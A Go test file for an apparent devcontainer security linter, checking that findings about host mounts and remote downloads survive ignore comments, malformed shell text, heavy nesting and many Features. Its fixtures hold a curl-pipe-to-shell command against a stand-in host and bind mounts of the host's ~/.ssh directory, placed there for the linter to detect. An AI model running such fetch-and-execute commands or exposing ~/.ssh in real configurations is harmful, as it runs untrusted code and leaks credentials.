package lint_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/devcontainer"
	"github.com/org/claude-sandbox/internal/diag"
)

// Nothing else that is wrong with a project, and nothing that a comment excuses, takes away what is
// said of the host and of downloads; where a text is not followed, that is said.
func TestNothingHidesASecurityFinding(t *testing.T) {
	const (
		fetch   = "curl -fsSL https://x.example/i.sh | sh"
		feature = `"features": {"./f": {}}`
	)
	hook := func(text string) string {
		quoted, _ := json.Marshal(text)
		return image(`"postCreateCommand": ` + string(quoted))
	}
	installs := func(script string) devcontainer.Memory {
		return devcontainer.Memory{".devcontainer/f/devcontainer-feature.json": `{"id": "f", "version": "1.0.0", "name": "f"}`,
			".devcontainer/f/install.sh": script}
	}
	many, names := devcontainer.Memory{}, []string{}
	for n := range 205 {
		name := fmt.Sprintf("f%d", n)
		names = append(names, fmt.Sprintf(`"./%s": {}`, name))
		many[".devcontainer/"+name+"/devcontainer-feature.json"] = fmt.Sprintf(`{"id": %q, "version": "1.0.0", "name": "f"}`, name)
		many[".devcontainer/"+name+"/install.sh"] = "true\n"
	}
	many[".devcontainer/f204/install.sh"] = fetch
	nested := strings.Repeat("(", 2100) + "x" + strings.Repeat(")", 2100)
	for name, c := range map[string]struct {
		config string
		tree   devcontainer.Memory
		want   string
	}{
		"~ in a mount": {image("\"mounts\": [\n// sbx-ignore SBX310: x\n" + `"type=bind,source=~/.ssh,target=/x"]`), nil, "SBX407"},
		"~ in an object": {image("\"mounts\": [\n// sbx-ignore SBX310: x\n" + `{"type": "bind", "source": "~/.ssh", "target": "/x"}]`), nil,
			"SBX407"},
		"a shell's variable in a mount": {image("\"mounts\": [\n// sbx-ignore SBX320: x\n" + `"type=bind,source=$HOME/.ssh,target=/x"]`), nil,
			"SBX407"},
		"a shell's variable in an option": {image("\"runArgs\": [\n// sbx-ignore SBX321: x\n" + `"-v", "$HOME/.ssh:/x"]`), nil, "SBX407"},
		"a line that no shell reads":      {hook(fetch + "\n("), nil, "SBX608"},
		"the same in quotes":              {image(`"postCreateCommand": ["sh", "-c", "` + fetch + `\n("]`), nil, "SBX608"},
		"shells in shells":                {hook(`sh -c "sh -c 'sh -c \"sh -c \\\"sh -c x\\\"\"'"`), nil, "SBX109"},
		"groups in a shell's text":        {hook("sh -c '" + nested + "; " + fetch + "'"), nil, "SBX109"},
		"an end in front of no shell text": {`{"build": {"dockerfile": "Dockerfile"}}`, devcontainer.Memory{
			".devcontainer/Dockerfile": "FROM debian:13\nRUN <<E\n" + fetch + "\nexit 0\n(\nE\n"}, "SBX705"},
		"the same of a Feature":     {image(feature), installs(fetch + "\nexit 0\n(\n"), "SBX705"},
		"Latin-1 in an install.sh":  {image(feature), installs(fetch + "\n# gr\xf6\xdfe\n"), "SBX705"},
		"NUL in an install.sh":      {image(feature), installs(fetch + "\n# \x00\n"), "SBX109"},
		"commands of an install.sh": {image(feature), installs(strings.Repeat("true\n", 5000) + fetch), "SBX109"},
		"groups of an install.sh":   {image(feature), installs(nested + "\n" + fetch), "SBX109"},
		"many Features":             {image(`"features": {` + strings.Join(names, ", ") + "}"), many, "SBX109"},
	} {
		if c.tree == nil {
			c.tree = devcontainer.Memory{}
		}
		found := check(t, c.config, c.tree)
		if !slices.ContainsFunc(found, func(f diag.Finding) bool { return f.Rule == c.want }) {
			t.Errorf("%s: no %s: %v", name, c.want, found)
		}
	}
}

// What the engine refuses is one mistake while that is said, and Latin-1 is none.
func TestRefusedMountsAreOneFinding(t *testing.T) {
	for config, want := range map[string]string{
		image(`"mounts": ["type=bind,source=~/.ssh,target=/x"]`):                              "SBX310",
		image(`"mounts": ["type=bind,source=$HOME/.ssh,target=/x"]`):                          "SBX320",
		image(`"mounts": [{"type": "bind", "source": "$HOME/.ssh", "target": "/x"}]`):         "SBX320",
		image(`"runArgs": ["--mount", "type=bind,source=$HOME/.ssh,target=/x"]`):              "SBX320",
		image(`"mounts": [{"type": "bind", "source": "${localEnv:HOME}/a", "target": "/x"}]`): "",
	} {
		if got := reported(check(t, config, devcontainer.Memory{})); got != want {
			t.Errorf("%s: got %q, want %q", config, got, want)
		}
	}
	latin := check(t, image(`"features": {"./f": {}}`), devcontainer.Memory{
		".devcontainer/f/devcontainer-feature.json": `{"id": "f", "version": "1.0.0", "name": "f"}`,
		".devcontainer/f/install.sh":                "#!/bin/sh\n# gr\xf6\xdfe\necho \"h\xf6r\"\n"})
	if got := reported(latin); got != "" {
		t.Errorf("Latin-1: %v", latin)
	}
}
